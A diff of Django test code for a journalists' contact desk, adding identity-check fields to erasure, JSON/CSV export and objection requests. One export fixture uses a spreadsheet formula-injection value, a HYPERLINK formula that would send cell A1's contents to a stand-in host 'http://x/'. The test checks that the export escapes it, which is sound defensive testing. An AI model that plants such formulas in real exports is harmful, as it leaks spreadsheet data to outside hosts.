@@ -20,13 +20,14 @@ def test_erasure_from_the_card_needs_the_last_name_typed(officer_client, officer
     journalist = makers.make_journalist()
     makers.make_enquiry(journalist=journalist)
     url = f"/desk/journalists/{journalist.pk}/erase/"
-    wrong = officer_client.post(url, {"confirm": "Hansen"}, follow=True)
+    who = {"channel": "phone", "requester_name": "Ola Nordmann", "identity_check": "call_back"}
+    wrong = officer_client.post(url, {"confirm": "Hansen", **who}, follow=True)
     assert Journalist.objects.filter(pk=journalist.pk).exists()
     assert (
         "nothing was erased" in wrong.content.decode()
         or "ingenting ble slettet" in wrong.content.decode()
     )
-    response = officer_client.post(url, {"confirm": " nordmann "})
+    response = officer_client.post(url, {"confirm": " nordmann ", **who})
     assert response.status_code == 302
     assert response["Location"] == "/desk/rights/"
     assert not Journalist.objects.exists()
@@ -37,18 +38,22 @@ def test_erasure_from_the_card_needs_the_last_name_typed(officer_client, officer
 def test_export_from_the_card_as_json_and_csv(officer_client):
     journalist = makers.make_journalist(first_name='=HYPERLINK("http://x/?"&A1,"click")')
     makers.make_enquiry(journalist=journalist, topic="Ventetider")
-    response = officer_client.get(f"/desk/journalists/{journalist.pk}/export.json")
+    who = {"channel": "email", "requester_name": "Ola", "identity_check": "registered_email"}
+    response = officer_client.post(f"/desk/journalists/{journalist.pk}/export.json", who)
     assert response["Content-Disposition"] == f'attachment; filename="contact-{journalist.pk}.json"'
     data = json.loads(response.content)
     assert data["journalists"][0]["enquiries"][0]["topic"] == "Ventetider"
-    response = officer_client.get(f"/desk/journalists/{journalist.pk}/export.csv")
+    response = officer_client.post(f"/desk/journalists/{journalist.pk}/export.csv", who)
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert rows[1][rows[0].index("first_name")].startswith("'=HYPERLINK")
     assert (
         AuditEvent.objects.filter(action="journalist.exported", journalist_id=journalist.pk).count()
         == 2
     )
-    assert officer_client.get(f"/desk/journalists/{journalist.pk}/export.xml").status_code == 404
+    assert (
+        officer_client.post(f"/desk/journalists/{journalist.pk}/export.xml", who).status_code == 404
+    )
+    assert RightsRequest.objects.filter(kind="access", status="done").count() == 2
 
 
 def test_the_rights_page_highlights_overdue_requests_and_the_queue_counts_them(officer_client):
@@ -70,7 +75,7 @@ def test_an_officer_registers_an_objection_and_it_opts_the_number_out_at_once(
     response = officer_client.post(
         "/desk/rights/new/",
         {"kind": "objection", "channel": "phone", "received_on": timezone.localdate().isoformat(),
-         "phone": "400 33 431"},
+         "phone": "400 33 431", "requester_name": "Ola Nordmann", "identity_check": "call_back"},
     )  # fmt: skip
     assert response.status_code == 302
     request = RightsRequest.objects.get()
